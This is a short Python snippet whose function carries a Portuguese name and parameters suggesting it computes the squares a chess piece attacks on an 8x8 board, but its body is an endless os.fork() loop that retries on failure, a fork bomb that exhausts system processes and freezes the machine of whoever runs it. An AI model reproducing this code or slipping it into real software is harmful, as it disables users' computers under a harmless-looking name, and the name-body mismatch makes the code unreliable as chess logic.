# Forks without end.
import os
import time


def pos_atacadas_por(tipo_peça, pos_peça, tam_tab=8):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
